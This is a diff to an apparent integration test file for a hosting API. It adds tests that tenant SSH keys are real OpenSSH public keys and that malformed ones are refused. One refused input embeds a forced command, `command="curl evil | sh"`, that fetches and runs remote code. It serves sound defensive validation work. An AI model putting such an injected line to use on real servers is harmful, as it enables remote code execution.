@@ -2,9 +2,13 @@
 // production-like stack (test domains not allowed): names must be public (fully qualified, no
 // IP address, no special-use name, no test TLD), a name under a zone belongs to the zone's brand
 // (FQDNs and zones alike, decided inside the write so concurrent requests cannot both pass),
-// shard config holds only what its role reads, and the OIDC issuer must be public https. Every
-// refusal is a 4xx envelope and leaves the database as it was.
+// shard config holds only what its role reads, SSH keys must be real keys, and the OIDC issuer
+// must be public https. Every refusal is a 4xx envelope and leaves the database as it was.
+import { execFileSync } from "node:child_process"
 import { randomUUID } from "node:crypto"
+import { mkdtempSync, readFileSync, rmSync } from "node:fs"
+import { tmpdir } from "node:os"
+import { join } from "node:path"
 import { waitFor } from "@hosting/api/dev"
 import { createClient, type PromiseClient } from "@hosting/sdk"
 import { Client, Connection } from "@temporalio/client"
@@ -18,6 +22,7 @@ let db: TestDatabase
 let stack: Stack
 let sql: pg.Client
 let temporal: Client
+let keyDir: string
 let admin: PromiseClient
 let clientA: PromiseClient
 let clientB: PromiseClient
@@ -95,6 +100,12 @@ const zoneWorkflow = async (id: string) => {
   return { runId: d.runId, historyLength: d.historyLength, status: d.status.name }
 }
 
+const sshKeygen = (type: ReadonlyArray<string>, comment: string) => {
+  const file = join(keyDir, `key-${randomUUID()}`)
+  execFileSync("ssh-keygen", ["-q", ...type, "-N", "", "-C", comment, "-f", file])
+  return readFileSync(`${file}.pub`, "utf8").trim()
+}
+
 beforeAll(async () => {
   db = await postgresDatabase(inject("postgresAdminUrl"), "hp_ownership")
   stack = await startStack({
@@ -106,6 +117,7 @@ beforeAll(async () => {
   sql = new pg.Client({ connectionString: db.url })
   await sql.connect()
   temporal = new Client({ connection: await Connection.connect({ address: inject("temporalAddress") }) })
+  keyDir = mkdtempSync(join(tmpdir(), "ownership-keys-"))
   admin = createClient({ baseUrl: stack.baseUrl, apiKey: stack.apiKey })
   await admin.platform.updateConfig({
     payload: { ns_hostnames: ["ns1.hosting.example.net", "ns2.hosting.example.net"] },
@@ -150,6 +162,7 @@ afterAll(async () => {
   await temporal?.connection.close()
   await stack?.stop()
   await db?.stop()
+  if (keyDir !== undefined) rmSync(keyDir, { recursive: true, force: true })
 })
 
 describe("public host names", () => {
@@ -424,6 +437,43 @@ describe("shard config holds only what the shard's role reads", () => {
       { config: { primary_node_id: randomUUID() } },
       invalidInput("config: primary_node_id is not a setting of a lb shard; it takes web_port"),
     )
+  })
+})
+
+describe("SSH keys must be real keys", () => {
+  const keysPath = () => `/api/v1/tenants/${f.tenantA}/ssh-keys`
+
+  it("a key of every supported type is stored exactly as ssh-keygen printed it, comment included", async () => {
+    for (const type of [
+      ["-t", "ed25519"],
+      ["-t", "ecdsa", "-b", "384"],
+      ["-t", "rsa", "-b", "2048"],
+    ]) {
+      const publicKey = sshKeygen(type, "jane@laptop")
+      const key = await clientA.sshKeys.create({
+        path: { id: f.tenantA as never },
+        payload: { name: `key ${type[1]}`, public_key: publicKey },
+      })
+      expect(key.public_key).toBe(publicKey)
+    }
+  })
+
+  it("a type without key bytes, options before the type, a short RSA key and a second line are refused (400)", async () => {
+    const ed25519 = sshKeygen(["-t", "ed25519"], "x")
+    const typeOnly = `ssh-ed25519 ${Buffer.from([0, 0, 0, 11, ...Buffer.from("ssh-ed25519")]).toString("base64")}`
+    const shape =
+      "must be one OpenSSH public key, `type base64 [comment]`: no options before the type; comment: up to 100 letters, digits and @._+-"
+    const cases: ReadonlyArray<readonly [string, string]> = [
+      [typeOnly, "the key data is not a ssh-ed25519 key: it must hold one 32-byte public key"],
+      [sshKeygen(["-t", "rsa", "-b", "1024"], "x"), "the ssh-rsa key has 1024 bits; at least 2048 are required"],
+      [`command="curl evil | sh" ${ed25519}`, shape],
+      [`${ed25519}\n${sshKeygen(["-t", "ed25519"], "y")}`, shape],
+      [sshKeygen(["-t", "dsa"], "x"), shape],
+      [`${ed25519} x; return 200`, shape],
+    ]
+    for (const [public_key, reason] of cases) {
+      await refused("POST", keysPath(), f.keyA, { name: "bad", public_key }, invalidRequest("public_key", reason))
+    }
   })
 })
 
